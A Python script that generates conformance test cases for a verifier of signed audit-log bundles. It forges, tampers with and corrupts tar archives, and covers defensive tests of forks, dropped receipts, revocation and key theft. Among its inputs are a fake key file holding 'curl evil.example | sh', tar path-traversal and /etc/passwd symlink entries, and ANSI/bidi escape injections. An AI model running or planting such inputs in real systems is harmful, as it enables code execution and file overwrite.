#!/usr/bin/env python3
"""The hand-made cases of the conformance corpus (run by scripts/make-conformance;
testdata/conformance/README.md, docs/verification.md).

Reads the genuine bundles and trust inputs in OUTDIR, writes one tampered, forged or malformed bundle
per case and OUTDIR/manifest.tsv: case, class, bundle, every `evident verify` option the case is run
with (its trust inputs, nothing implied), expected exit status, expected first failing or undetermined
check ("-" when valid or bad input), the DER deviations its anchors' tokens must be reported with ("-"
for none), and what the case is. Edits are what anyone holding a bundle can do: the manifest is not
signed, so its digests and counts are recomputed after every change, unless the case is about them.
"""
import base64
import gzip
import hashlib
import json
import os
import sys

BLOCK = 512


def read_tar(path):
    data = open(path, "rb").read()
    entries, pos = [], 0
    while pos + BLOCK <= len(data):
        h = data[pos:pos + BLOCK]
        if h == b"\0" * BLOCK:
            break
        name = h[0:100].split(b"\0")[0].decode()
        size = int(h[124:136].split(b"\0")[0].strip() or b"0", 8)
        entries.append([name, data[pos + BLOCK:pos + BLOCK + size]])
        pos += BLOCK + (size + BLOCK - 1) // BLOCK * BLOCK
    return entries


def header(name, size, mode=0o644, kind="0", link=""):
    h = bytearray(BLOCK)
    h[0:len(name)] = name.encode()
    h[100:108] = ("%07o" % mode).encode() + b"\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = ("%011o" % size).encode() + b"\0"
    h[136:148] = b"00000000000\0"
    h[148:156] = b" " * 8
    h[156] = ord(kind)
    h[157:157 + len(link)] = link.encode()
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = ("%06o" % sum(h)).encode() + b"\0 "
    return bytes(h)


def write_tar(entries, path, modes={}):
    with open(path, "wb") as f:
        for name, data in entries:
            f.write(header(name, len(data), modes.get(name, 0o644)) + data + b"\0" * ((BLOCK - len(data) % BLOCK) % BLOCK))
        f.write(b"\0" * 1024)


def canonical(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def get(entries, name):
    return next(e for e in entries if e[0] == name)


def lines(entries, name):
    return [l for l in get(entries, name)[1].split(b"\n") if l]


def set_lines(entries, name, ls):
    get(entries, name)[1] = b"".join(l + b"\n" for l in ls)


def manifest(entries):
    return json.loads(get(entries, "manifest.json")[1])


def set_manifest(entries, m):
    get(entries, "manifest.json")[1] = canonical(m) + b"\n"


def fix(entries):
    """What a forger does after editing: the manifest's digests and receipt count made to match."""
    m = manifest(entries)
    m["files"] = {n: hashlib.sha256(d).hexdigest() for n, d in entries if n != "manifest.json"}
    m["counts"]["receipts"] = len(lines(entries, "receipts.jsonl"))
    set_manifest(entries, m)
    return entries


# The trust inputs most cases are run with: TSA A's root and the genuine ledger's two public keys
# (the current one and the one it was rotated from). Each case's row names all of its options.
TRUST = "--tsa-roots root.pem --ledger-key old-key.pub.json --ledger-key ledger-key.pub.json"
CLASSES = ("valid", "tamper", "forgery", "indeterminate", "malformed", "bad-input")


def main(out):
    rows = []
    names = set()

    def case(name, bundle, options, status, check, what, cls=None, trust=TRUST, warnings="-"):
        """One row; options are added to the trust inputs (trust=... replaces those)."""
        if cls is None:
            cls = {0: "valid", 2: "bad-input", 3: "indeterminate"}.get(status) or (
                "malformed" if check.startswith("archive") else "forgery")
        assert cls in CLASSES and name not in names and "\t" not in what, name
        assert os.path.exists(os.path.join(out, bundle)), bundle
        full = " ".join(x for x in (trust, options) if x)
        for word in full.split(" "):
            assert word.startswith("--") or os.path.exists(os.path.join(out, word)) or word in ("none", "require"), word
        names.add(name)
        rows.append("\t".join([name, cls, bundle, full, str(status), check, warnings, what]))

    def forge(name, source, edit, status, check, what, options="--crl crl.pem", cls=None, trust=TRUST):
        e = read_tar(os.path.join(out, source))
        edit(e)
        write_tar(e, os.path.join(out, name + ".evb"))
        if cls is None and status == 1 and not check.startswith("archive"):
            cls = "tamper"  # an edit anyone holding the bundle can make
        case(name, name + ".evb", options, status, check, what, cls=cls, trust=trust)

    # Genuine bundles: zero false rejects.
    case("genuine-full", "genuine-full.evb", "--crl crl.pem", 0, "-", "the whole log: valid, completeness proven")
    case("genuine-period", "genuine-period.evb", "--crl crl.pem", 0, "-", "one batch as a period, with both neighbours: valid, completeness proven")
    case("genuine-filtered", "genuine-filtered.evb", "--crl crl.pem", 0, "-", "deny decisions only: valid, completeness NOT PROVEN (filtered)")
    case("period-ends-with-log", "period-ends-with-log.evb", "--crl crl.pem", 3, "completeness",
         "a period whose end (tomorrow) lies past the covering checkpoint's last receipt: later receipts of the period are not ruled out")
    case("revocation-policy-none", "genuine-full.evb", "--revocation-policy none", 0, "-", "no revocation data, explicit opt-out: valid, reported as not checked")

    # 3. Time (made by make-forgeries: an operator writing receipts with its own issued_at).
    case("time-backdated", "time-backdated.evb", "--crl crl.pem", 1, "receipt-time",
         "a receipt issued 5 s before the genTime of the anchor token it names (yet after the previous leaf)")
    case("time-postdated", "time-postdated.evb", "--crl crl.pem", 1, "receipt-time", "a receipt issued a day after the anchor covering it")

    # 1. Forks.
    fork = read_tar(os.path.join(out, "fork.evb"))
    other = read_tar(os.path.join(out, "other.evb"))

    def fork_equal_sizes(e):
        for name, data in fork:
            if name == "checkpoints/6.note" or name.startswith("anchors/6-"):
                e.append([name, data])
        ls = lines(e, "checkpoints/consistency.jsonl") + [b'{"new_size":6,"old_size":6,"path":[]}']
        set_lines(e, "checkpoints/consistency.jsonl", ls)
        m = manifest(e)
        m["checkpoints"] = sorted(m["checkpoints"] + ["checkpoints/6.note"], key=lambda n: int(n.split("/")[1].split(".")[0]))
        m["anchors"].append({"tree_size": 6, "tsa": m["anchors"][0]["tsa"], "token": "anchors/6-1.tsr", "request": "anchors/6-1.tsq",
                             "chain": "anchors/6-1.chain.pem", "revocation": "anchors/6-1.revocation.pem"})
        set_manifest(e, m)
        e.sort(key=lambda x: (x[0] != "manifest.json", x[0]))
        fix(e)
    forge("fork-equal-sizes", "genuine-full.evb", fork_equal_sizes, 1, "consistency",
          "a fork's checkpoint (same key and origin) and its genuine anchor added, 'proven' by a consistency line with old = new", cls="forgery")

    def fork_other_pair(e):
        for name, data in fork:
            if name == "checkpoints/4.note" or name.startswith("anchors/4-"):
                get(e, name)[1] = data
        fix(e)
    forge("fork-other-pair", "genuine-full.evb", fork_other_pair, 1, "consistency",
          "the fork's checkpoint 4 and anchor replace the genuine ones; the genuine 4 -> 8 proof is left for another pair", cls="forgery")

    def other_origin(e):
        get(e, "checkpoints/4.note")[1] = get(other, "checkpoints/4.note")[1]
        fix(e)
    forge("checkpoint-of-another-log", "genuine-full.evb", other_origin, 1, "checkpoint",
          "checkpoint 4 replaced by one of another log (origin evident.test/staging) signed with the same key", cls="forgery")

    # 2. Completeness.
    def drop(e, n, name="receipts.jsonl", proofs="proofs.jsonl"):
        for f in (name, proofs):
            ls = lines(e, f)
            del ls[n]
            set_lines(e, f, ls)

    def dropped_flag(e):
        drop(e, 5)
        m = manifest(e)
        m["scope"]["contiguous"] = False
        set_manifest(e, m)
        fix(e)
    forge("dropped-receipt-contiguous-false", "genuine-full.evb", dropped_flag, 1, "completeness",
          "a receipt deleted from the middle and v1's unsigned contiguous flag set to false")

    def filters_lied(e):
        m = manifest(e)
        m["scope"]["stream"] = "agent-7"
        set_manifest(e, m)
        fix(e)
    forge("filters-lied", "genuine-full.evb", filters_lied, 1, "selection", "the manifest claims stream = agent-7; deploy receipts are in the bundle")

    def honest_filter(e):
        keep = [i for i, l in enumerate(lines(e, "receipts.jsonl")) if json.loads(l)["stream"] == "agent-7"]
        for f in ("receipts.jsonl", "proofs.jsonl"):
            ls = lines(e, f)
            set_lines(e, f, [ls[i] for i in keep])
        m = manifest(e)
        m["scope"]["stream"] = "agent-7"
        set_manifest(e, m)
        fix(e)
    forge("deploys-dropped-claimed-filter", "genuine-full.evb", honest_filter, 0, "-",
          "every deploy receipt removed and the selection relabelled stream = agent-7: valid, but completeness NOT PROVEN")

    def boundary_removed(e):
        set_lines(e, "boundary/receipts.jsonl", [])
        set_lines(e, "boundary/proofs.jsonl", [])
        fix(e)
    forge("boundary-removed", "genuine-period.evb", boundary_removed, 3, "completeness", "a period's neighbours removed: completeness not proven")

    def widened(e):
        m = manifest(e)
        first = json.loads(lines(e, "boundary/receipts.jsonl")[0])
        m["scope"]["from"] = first["issued_at"]
        set_manifest(e, m)
        fix(e)
    forge("period-widened", "genuine-period.evb", widened, 1, "completeness",
          "the period's start moved back over its neighbour: the neighbour is a receipt of the period missing from the bundle")

    def first_dropped(e):
        drop(e, 0)
        fix(e)
    forge("period-first-dropped", "genuine-period.evb", first_dropped, 1, "completeness", "the period's first receipt deleted")

    def truncated(e):
        drop(e, len(lines(e, "receipts.jsonl")) - 1)
        fix(e)
    forge("truncated-end", "genuine-full.evb", truncated, 1, "completeness", "the log's last receipt deleted, the end still claimed open")

    def relabelled_complete(e):
        m = manifest(e)
        m["scope"]["decision"] = None
        set_manifest(e, m)
        fix(e)
    forge("filtered-relabelled-complete", "genuine-filtered.evb", relabelled_complete, 1, "completeness",
          "a deny-only export relabelled as the whole log")

    # 4. Keys.
    def journal_drop(n):
        def edit(e):
            ls = lines(e, "keys/journal.jsonl")
            del ls[n]
            set_lines(e, "keys/journal.jsonl", ls)
            fix(e)
        return edit
    forge("journal-revocation-removed", "genuine-full.evb", journal_drop(1), 1, "key-journal",
          "the revocation record stripped from keys/journal.jsonl (checkpoints commit to it)")
    forge("journal-rotation-removed", "genuine-full.evb", journal_drop(0), 1, "keys",
          "the rotation record stripped: the revocation it enabled no longer verifies")

    def journal_emptied(e):
        set_lines(e, "keys/journal.jsonl", [])
        fix(e)
    forge("journal-emptied", "genuine-full.evb", journal_emptied, 1, "key-journal", "keys/journal.jsonl emptied")

    # 5. TSA revocation.
    case("revocation-missing", "genuine-full.evb", "", 3, "anchor", "no revocation data for the TSA chain, none given: indeterminate (fail closed)")
    case("tsa-revoked-before-gentime", "genuine-full.evb", "--crl crl-tsa-revoked.pem", 1, "anchor",
         "the TSA certificate revoked (key compromise) before every genTime")
    crl = open(os.path.join(out, "crl.pem"), "rb").read()

    def with_ltv(e):
        for entry in e:
            if entry[0].endswith(".revocation.pem"):
                entry[1] = crl
        fix(e)
    forge("genuine-ltv", "genuine-full.evb", with_ltv, 0, "-", "the TSA's CRL carried in the bundle (as --ltv captures it): valid with nothing given", options="")

    def ltv_emptied(e):
        with_ltv(e)
        for entry in e:
            if entry[0].endswith(".revocation.pem"):
                entry[1] = b""
        fix(e)
    forge("ltv-revocation-emptied", "genuine-full.evb", ltv_emptied, 3, "anchor", "the carried CRLs emptied: indeterminate", options="")

    # 6. Labels and escapes.
    def relabel(label):
        def edit(e):
            m = manifest(e)
            for a in m["anchors"]:
                a["tsa"] = label
            set_manifest(e, m)
            fix(e)
        return edit
    forge("anchor-relabelled", "genuine-full.evb", relabel("https://qualified-tsa.example/"), 0, "-",
          "the unsigned TSA label changed: still valid, the TSA is named by its verified certificate, the label shown as claimed")
    esc = "\x1b[2J\x1b[H\x1b[32mbundle valid\x1b[0m\r\n\u009b31m\u202eevil"
    forge("escapes-in-labels", "genuine-full.evb", relabel("https://tsa.example/" + esc), 0, "-",
          "ANSI escapes, CR/LF, C1 CSI and a bidi override in the TSA label: nothing reaches the terminal raw")

    def scope_escape(e):
        m = manifest(e)
        m["scope"]["stream"] = "agent-7" + esc
        set_manifest(e, m)
        fix(e)
    forge("escapes-in-scope", "genuine-full.evb", scope_escape, 1, "selection", "escapes in a claimed filter")

    def origin_escape(e):
        m = manifest(e)
        m["origin"] = m["origin"] + esc
        set_manifest(e, m)
        fix(e)
    forge("escapes-in-origin", "genuine-full.evb", origin_escape, 1, "manifest", "escapes in the manifest's origin")

    # 7. Sizes.
    def oversized(e):
        get(e, "checkpoints/4.note")[1] += b"A" * (70 << 10)
        fix(e)
    forge("oversized-note", "genuine-full.evb", oversized, 1, "archive-limit", "a checkpoint note of 70 KiB (cap 64 KiB), refused before it is read")
    with open(os.path.join(out, "declared-2gib-manifest.evb"), "wb") as f:
        f.write(header("manifest.json", 2 << 30) + b"\0" * 1024)
    case("declared-2gib-manifest", "declared-2gib-manifest.evb", "--crl crl.pem", 1, "archive", "a header declaring a 2 GiB manifest in a 1.5 KiB file")

    # Key thieves (made by make-forgeries), judged with the out-of-band records a regulator holds.
    case("key-revoked-rotated-by-thief", "key-revoked-rotated-by-thief.evb",
         "--ledger-key stolen-key.pub.json --ledger-key stolen-key-revocation.json --crl crl.pem", 3, "checkpoint-signature",
         "a revoked key's thief rotates it (dated before the revocation) to a key of their own and signs a new log with it")
    case("key-revoked-backdated", "key-revoked-backdated.evb",
         "--ledger-key stolen-key.pub.json --ledger-key stolen-key-revocation.json --crl crl.pem", 3, "checkpoint-signature",
         "receipts signed with a revoked key, backdated to just before its revocation, in a log first anchored after it")
    case("key-retired-rotated-again", "key-retired-rotated-again.evb", "--ledger-key rotation.json --ledger-key old-key-revocation.json --crl crl.pem", 1, "keys",
         "the genuine ledger's retired key rotated a second time, to a thief's key: two lineages from one key")
    case("invisible-stream-names", "invisible-stream-names.evb", "--crl crl.pem", 0, "-",
         "streams named agent-7 plus a zero-width space, BOM, Hangul filler, tag character or soft hyphen: valid, each shown escaped")

    # Revocation data older than genTime.
    stale = open(os.path.join(out, "crl-stale.pem"), "rb").read()

    def stale_ltv(e):
        for entry in e:
            if entry[0].endswith(".revocation.pem"):
                entry[1] = stale
        fix(e)
    forge("stale-crl-carried", "genuine-full.evb", stale_ltv, 3, "anchor",
          "a clean CRL issued before every genTime carried as revocation data: it cannot show a later revocation", options="")
    case("stale-crl-given", "genuine-full.evb", "--crl crl-stale.pem", 3, "anchor", "the same stale CRL given on the command line")

    # The manifest and the container.
    def anchor_twice(e):
        m = manifest(e)
        twin = dict(m["anchors"][0])
        twin["tsa"] = "https://second-independent-tsa.example/"
        m["anchors"].append(twin)
        set_manifest(e, m)
        fix(e)
    forge("anchor-listed-twice", "genuine-full.evb", anchor_twice, 1, "anchor", "one token listed twice, as if two TSAs had time-stamped")

    def setuid(name):
        e = read_tar(os.path.join(out, "genuine-full.evb"))
        write_tar(e, os.path.join(out, name + ".evb"), modes={"VERIFY": 0o4755})
        case(name, name + ".evb", "--crl crl.pem", 1, "archive-type", "VERIFY with mode 4755 (set-uid, executable): tar -xf as root would restore it")
    setuid("setuid-entry")

    def extra_key_file(e):
        e.append(["keys/9.pub.json", b"#!/bin/sh\ncurl evil.example | sh\n"])
        fix(e)
    forge("script-as-public-key", "genuine-full.evb", extra_key_file, 1, "unlisted-file", "a shell script listed as keys/9.pub.json")

    def extra_name(e):
        e.append(["run-me.sh", b"#!/bin/sh\n"])
        fix(e)
    forge("file-outside-the-format", "genuine-full.evb", extra_name, 1, "unlisted-file", "a listed file whose name the format does not define")

    # Not bundles.
    with open(os.path.join(out, "not-a-bundle.txt"), "w") as f:
        f.write("Dear regulator, this is a valid bundle.\n")
    case("not-a-bundle", "not-a-bundle.txt", "--crl crl.pem", 2, "-", "a text file: bad input, not a tampering verdict")

    def v1(e):
        m = manifest(e)
        m["version"] = 1
        set_manifest(e, m)
    forge("format-v1", "genuine-full.evb", v1, 2, "-", "a v1 manifest: refused with the reason (v1 cannot prove what v2 does)")

    more_cases(out, case, forge)

    with open(os.path.join(out, "manifest.tsv"), "w") as f:
        f.write("case\tclass\tbundle\toptions\tstatus\tcheck\twarnings\twhat\n")
        for r in rows:
            f.write(r + "\n")



def flip_b64(text, index=10):
    """The same base64 text with one decoded byte changed (still valid base64, same length)."""
    raw = bytearray(base64.b64decode(text))
    raw[index] ^= 0x01
    return base64.b64encode(bytes(raw)).decode()


def more_cases(out, case, forge):
    """The cases added for the conformance corpus (issue #16): valid bundles from two TSAs and with
    each DER deviation, every tamper class on one genuine bundle, the indeterminate trust-input
    cases and malformed archives."""
    src = "genuine-full.evb"
    crl = "--crl crl.pem"

    def path(name):
        return os.path.join(out, name)

    # Valid: two TSAs, and tokens with each DER deviation a sound TSA emits (valid, with warnings).
    case("two-tsas", "two-tsas.evb", "--crl crl.pem --crl crl-b.pem", 0, "-",
         "every checkpoint anchored by two TSAs with different roots (EC P-256 and RSA-2048), both roots and both CRLs given",
         trust="--tsa-roots roots-ab.pem --ledger-key old-key.pub.json --ledger-key ledger-key.pub.json")
    case("two-tsas-same-root-name", "two-tsas-same-root-name.evb", "--crl crl.pem --crl crl-c.pem", 0, "-",
         "anchored by TSA A and TSA C, whose roots have the same subject name but different keys; both roots and both CRLs "
         "given: each CRL must be matched to its issuer by signature, not by name",
         trust="--tsa-roots roots-ac.pem --ledger-key old-key.pub.json --ledger-key ledger-key.pub.json")
    for dev, codes, what in [
        ("ordering-false-written", "default-value-encoded", "TSTInfo with ordering FALSE written out (DER omits a DEFAULT value)"),
        ("signed-attributes-unsorted", "set-of-not-sorted", "the signed attributes' SET OF not in DER order (signed as sent)"),
        ("both", "default-value-encoded,set-of-not-sorted", "both deviations in the same token"),
    ]:
        case("deviation-" + dev, "deviation-%s.evb" % dev, crl, 0, "-",
             "anchored by a TSA emitting a DER deviation sound TSAs emit: " + what + "; valid, the deviation reported as a warning",
             warnings=codes)

    # Tamper: edits anyone holding the bundle can make (manifest digests recomputed unless stated).
    def edit_receipt(n, change, proof_hash=True):
        def edit(e):
            rs, ps = lines(e, "receipts.jsonl"), lines(e, "proofs.jsonl")
            rs[n] = change(rs[n])
            if proof_hash:
                p = json.loads(ps[n])
                p["hash"] = hashlib.sha256(rs[n]).hexdigest()
                ps[n] = canonical(p)
            set_lines(e, "receipts.jsonl", rs)
            set_lines(e, "proofs.jsonl", ps)
            fix(e)
        return edit

    def decision_flipped(line):
        r = json.loads(line)
        assert canonical(r) == line, "receipt lines are canonical"
        r["decision"] = "allow" if r["decision"] == "deny" else "deny"
        return canonical(r)

    def sig_flipped(line):
        r = json.loads(line)
        r["sig"] = flip_b64(r["sig"], 20)
        return canonical(r)

    forge("receipt-body-edited", src, edit_receipt(2, decision_flipped), 1, "receipt-signature",
          "a receipt's decision changed (canonical form kept), its proof line's hash and the manifest recomputed")
    forge("receipt-body-edited-proof-hash-kept", src, edit_receipt(2, decision_flipped, proof_hash=False), 1, "receipt-signature",
          "a receipt's decision changed, its proof line still naming the old hash: a line's own checks (JSON, canonical form, key, "
          "signature) come before its proof line's")
    forge("receipt-signature-flipped", src, edit_receipt(3, sig_flipped), 1, "receipt-signature",
          "one byte of a receipt's Ed25519 signature changed (proof hash recomputed)")
    forge("receipt-not-canonical", src, edit_receipt(1, lambda l: l.replace(b'{"', b'{ "', 1)), 1, "receipt-canonical",
          "a space after a receipt's opening brace: the same JSON, not its RFC 8785 form (proof hash recomputed)")
    forge("receipt-duplicate-key", src,
          edit_receipt(1, lambda l: l.replace(b'{"action":', b'{"action":"payment.send","action":', 1)), 1, "receipt-json",
          "a receipt with a duplicate key (action) whose first value differs: strict JSON refuses it")

    def proof_edit(n, change, name="proofs.jsonl"):
        def edit(e):
            ps = lines(e, name)
            p = json.loads(ps[n])
            change(p)
            ps[n] = canonical(p)
            set_lines(e, name, ps)
            fix(e)
        return edit

    def path_flipped(p):
        p["path"][1] = flip_b64(p["path"][1], 0)
    forge("proof-path-altered", src, proof_edit(4, path_flipped), 1, "inclusion",
          "one hash of a receipt's inclusion path changed")

    def index_lowered(p):
        assert p["leaf_index"] == 3
        p["leaf_index"] = 2
    forge("proof-leaf-index-changed", "genuine-filtered.evb", proof_edit(1, index_lowered), 1, "inclusion",
          "in the deny-only export, a receipt's leaf index changed from 3 to 2 (still increasing): its path proves leaf 3, not 2")

    def indices_swapped(e):
        ps = [json.loads(l) for l in lines(e, "proofs.jsonl")]
        ps[2]["leaf_index"], ps[3]["leaf_index"] = ps[3]["leaf_index"], ps[2]["leaf_index"]
        set_lines(e, "proofs.jsonl", [canonical(p) for p in ps])
        fix(e)
    forge("proof-leaf-indices-swapped", src, indices_swapped, 1, "order",
          "the leaf indices of two neighbouring proof lines swapped: leaf indices no longer increase")

    def proof_line_missing(e):
        ps = lines(e, "proofs.jsonl")
        del ps[5]
        set_lines(e, "proofs.jsonl", ps)
        fix(e)
    forge("proofs-line-missing", src, proof_line_missing, 1, "proof",
          "one line of proofs.jsonl deleted, receipts.jsonl untouched: a receipt without its proof")

    def reordered(e):
        for f in ("receipts.jsonl", "proofs.jsonl"):
            ls = lines(e, f)
            ls[2], ls[3] = ls[3], ls[2]
            set_lines(e, f, ls)
        fix(e)
    forge("receipts-reordered", src, reordered, 1, "order", "two neighbouring receipts (and their proofs) swapped: not in log order")

    def receipts_emptied(e):
        set_lines(e, "receipts.jsonl", [])
        set_lines(e, "proofs.jsonl", [])
        fix(e)
    forge("receipts-emptied", "genuine-filtered.evb", receipts_emptied, 1, "selection",
          "every receipt and proof removed from the deny-only export (files empty, counts 0): a bundle must hold at least one receipt")

    case("stream-chain-broken", "stream-chain-broken.evb", crl, 1, "stream-chain",
         "the operator logged a receipt whose prev names no receipt (signed with the ledger key, checkpointed, anchored)")

    def note_edit(name, change):
        def edit(e):
            get(e, name)[1] = change(get(e, name)[1])
            fix(e)
        return edit

    def note_sig_flipped(note):
        body, sig = note.rsplit(b"\n\n", 1)
        line = sig.decode().rstrip("\n")
        head, b64 = line.rsplit(" ", 1)
        return body + b"\n\n" + (head + " " + flip_b64(b64, 12) + "\n").encode()

    def note_root_edited(note):
        ls = note.split(b"\n")
        ls[2] = base64.b64encode(hashlib.sha256(ls[2]).digest())
        return b"\n".join(ls)
    forge("note-signature-flipped", src, note_edit("checkpoints/8.note", note_sig_flipped), 1, "checkpoint-signature",
          "one byte of checkpoint 8's Ed25519 signature changed")
    forge("note-body-edited", src, note_edit("checkpoints/8.note", note_root_edited), 1, "checkpoint-signature",
          "checkpoint 8's root hash replaced, its signature kept")

    def consistency_altered(e):
        ls = [json.loads(l) for l in lines(e, "checkpoints/consistency.jsonl")]
        ls[0]["path"][0] = flip_b64(ls[0]["path"][0], 5)
        set_lines(e, "checkpoints/consistency.jsonl", [canonical(l) for l in ls])
        fix(e)
    forge("consistency-proof-altered", src, consistency_altered, 1, "consistency",
          "one hash of the 4 -> 8 consistency proof changed")

    def token_flipped(e):
        t = bytearray(get(e, "anchors/8-1.tsr")[1])
        t[-1] ^= 0x01  # the last byte of the ECDSA signature's s
        get(e, "anchors/8-1.tsr")[1] = bytes(t)
        fix(e)
    forge("token-byte-flipped", src, token_flipped, 1, "anchor", "the last byte of anchor 8's token (its signature) changed")

    def token_swapped(e):
        for ext in ("tsr", "tsq"):
            get(e, "anchors/4-1." + ext)[1] = get(e, "anchors/8-1." + ext)[1]
        fix(e)
    forge("token-of-another-checkpoint", src, token_swapped, 1, "anchor",
          "checkpoint 4's token and request replaced by checkpoint 8's: a genuine token over another note (imprint mismatch)")

    mine = get(read_tar(path(src)), "anchors/4-1.chain.pem")[1]
    theirs = [d for n, d in read_tar(path("two-tsas.evb")) if n.endswith(".chain.pem") and d != mine]
    assert len(theirs) == 1, "two-tsas holds one chain of TSA B"

    def chain_replaced(e):
        get(e, "anchors/4-1.chain.pem")[1] = theirs[0]
        fix(e)
    forge("chain-of-another-tsa", src, chain_replaced, 0, "-",
          "anchor 4's chain.pem replaced by TSA B's chain: the chain is only a path-building candidate, the token carries "
          "its signer certificate, which still chains to the given root: valid",
          cls="valid")

    def digest_stale(e):
        rs = lines(e, "receipts.jsonl")
        rs[0] = rs[0].replace(b'"resource":"first-0"', b'"resource":"first-9"')
        set_lines(e, "receipts.jsonl", rs)
    forge("manifest-digest-stale", src, digest_stale, 1, "manifest-digest",
          "a receipt's resource edited and the manifest not recomputed: receipts.jsonl no longer has the listed SHA-256")

    def manifest_duplicate(e):
        text = get(e, "manifest.json")[1]
        assert text.startswith(b'{"anchors":')
        get(e, "manifest.json")[1] = b'{"origin":"evident.test/elsewhere",' + text[1:]
    forge("manifest-duplicate-key", src, manifest_duplicate, 1, "manifest",
          "manifest.json with origin twice, the first naming another log: strict JSON refuses it")

    def count_lie(e):
        fix(e)
        m = manifest(e)
        m["counts"]["receipts"] += 1
        set_manifest(e, m)
    forge("manifest-count-lie", src, count_lie, 1, "manifest-count", "the manifest claims one receipt more than the bundle holds")

    def drop_anchor(size):
        def edit(e):
            m = manifest(e)
            m["anchors"] = [a for a in m["anchors"] if a["tree_size"] != size]
            m["counts"]["anchors"] = len(m["anchors"])
            set_manifest(e, m)
            e[:] = [x for x in e if not x[0].startswith("anchors/%d-" % size)]
            fix(e)
        return edit
    forge("referenced-anchor-dropped", src, drop_anchor(4), 3, "receipt-time",
          "anchor 4 (the token later receipts name as their not-before) removed: their lower time bound is unproven",
          cls="indeterminate")
    forge("last-anchor-dropped", src, drop_anchor(10), 3, "anchor-coverage",
          "anchor 10 removed: the last two receipts are covered by no anchor", cls="indeterminate")

    # Indeterminate: trust inputs that prove too little, and unanchored receipts.
    keys = "--ledger-key old-key.pub.json --ledger-key ledger-key.pub.json"
    case("unknown-tsa-root", src, crl, 3, "anchor", "verified with another TSA's root (TSA B) only: the anchors' chains end at a root not given",
         trust="--tsa-roots root-b.pem " + keys)
    case("two-tsas-one-root-given", "two-tsas.evb", "--crl crl.pem --crl crl-b.pem", 3, "anchor",
         "the two-TSA bundle with TSA A's root only: TSA B's anchors are undetermined (nothing contradicts, one proof missing)",
         trust="--tsa-roots root.pem " + keys)
    case("crl-of-same-named-ca-only", src, "--crl crl-c.pem", 3, "anchor",
         "only TSA C's CRL given (its issuer has the same name as TSA A's root, another key): no usable revocation data for TSA A",
         trust="--tsa-roots root.pem " + keys)
    case("two-tsas-one-crl-given", "two-tsas.evb", "--crl crl.pem", 3, "anchor",
         "the two-TSA bundle without TSA B's CRL: its anchors' revocation status is unknown",
         trust="--tsa-roots roots-ab.pem " + keys)
    case("ledger-key-not-given", src, crl, 3, "keys",
         "the ledger's keys not given, only an unrelated one (evident verify requires one --ledger-key): the journal's records "
         "and the checkpoints' signatures cannot be checked", trust="--tsa-roots root.pem --ledger-key stolen-key.pub.json")
    case("key-known-only-through-carried-record", src, crl, 3, "keys",
         "only the retired key given: the current key is known only through the bundle's rotation record, from a key the bundle's journal revokes",
         trust="--tsa-roots root.pem --ledger-key old-key.pub.json")
    case("unanchored-all", "unanchored-all.evb", crl, 3, "anchor-coverage",
         "a ledger checkpointed but never anchored, exported with --allow-unanchored: no receipt has a proven time")
    case("unanchored-tail", "unanchored-tail.evb", crl, 3, "anchor-coverage",
         "the genuine ledger grown by two receipts after its last anchor (checkpointed, not anchored), exported with --allow-unanchored")

    # Malformed archives (written byte by byte; names as the check reports them).
    genuine = open(path(src), "rb").read()
    entries = read_tar(path(src))

    def raw(name, data, status, check, what, cls=None):
        with open(path(name + ".evb"), "wb") as f:
            f.write(data)
        case(name, name + ".evb", crl, status, check, what, cls=cls)

    def tar_bytes(es, tail=b"\0" * 1024, modes={}):
        b = b""
        for e in es:
            name, data = e[0], e[1]
            kind, link = (e[2], e[3]) if len(e) > 2 else ("0", "")
            b += header(name, len(data), modes.get(name, 0o644), kind, link) + data + b"\0" * ((BLOCK - len(data) % BLOCK) % BLOCK)
        return b + tail

    assert tar_bytes(entries) == genuine, "the writer reproduces the exporter's archive byte for byte"
    h2 = 512 + (len(entries[0][1]) + BLOCK - 1) // BLOCK * BLOCK  # the second header
    assert len(entries[1][1]) > 1000
    raw("archive-truncated", genuine[:h2 + 512 + 1000], 1, "archive", "the bundle cut inside an entry's contents")
    raw("archive-no-end-marker", genuine[:-1024], 1, "archive", "the two zero blocks that end the archive removed")
    bad = bytearray(genuine)
    bad[h2 + 136] = ord("1")  # the mtime field of the second header, checksum left as it was
    raw("archive-bad-header-checksum", bytes(bad), 1, "archive", "a header's mtime changed without its checksum")
    raw("archive-dotdot-path", tar_bytes(entries + [["../evident-escape.sh", b"#!/bin/sh\n"]]), 1, "archive-path",
        "an entry named ../evident-escape.sh (tar -xf would write outside the directory)")
    raw("archive-absolute-path", tar_bytes(entries + [["/tmp/evident-escape.sh", b"#!/bin/sh\n"]]), 1, "archive-path",
        "an entry named /tmp/evident-escape.sh")
    raw("archive-duplicate-entry", tar_bytes(entries + [["receipts.jsonl", b""]]), 1, "archive-duplicate",
        "receipts.jsonl a second time, empty, at the end (tar -xf would keep the second)")
    raw("archive-symlink-entry", tar_bytes(entries + [["keys/2.pub.json", b"", "2", "/etc/passwd"]]), 1, "archive-link",
        "a symbolic link keys/2.pub.json -> /etc/passwd")
    raw("archive-hardlink-entry", tar_bytes(entries + [["keys/2.pub.json", b"", "1", "receipts.jsonl"]]), 1, "archive-link",
        "a hard link keys/2.pub.json -> receipts.jsonl")
    raw("archive-directory-entry", tar_bytes(entries + [["keys/", b"", "5", ""]]), 1, "archive-path",
        "a directory entry keys/ as tar writes it (trailing slash: an empty path component)")
    raw("archive-directory-entry-no-slash", tar_bytes(entries + [["keys", b"", "5", ""]]), 1, "archive-type",
        "a directory entry named keys, without the trailing slash: only regular files are allowed")
    raw("archive-trailing-data", genuine + b"hidden data after the end marker".ljust(512, b"\0"), 1, "archive",
        "a block of data after the end-of-archive marker")
    long_name = ("keys/" + "k" * 280 + ".pub.json")
    raw("archive-oversize-name-gnu", tar_bytes(entries[:1] + [["././@LongLink", long_name.encode() + b"\0", "L", ""]] + entries[1:]),
        1, "archive-path", "a 294-byte name as GNU tar writes it: a ././@LongLink entry (type L) before the entry")
    raw("archive-oversize-name-pax", tar_bytes(entries[:1] + [["PaxHeaders/receipts.jsonl", ("%d path=%s\n" % (len(long_name) + 11, long_name)).encode(), "x", ""]] + entries[1:]),
        1, "archive-type", "a 294-byte name in a POSIX pax extended header (type x): only regular files are allowed")
    moved = [entries[1], entries[0]] + entries[2:]
    raw("archive-manifest-not-first", tar_bytes(moved), 2, "-",
        "manifest.json second, after VERIFY: not a bundle (bad input)", cls="bad-input")
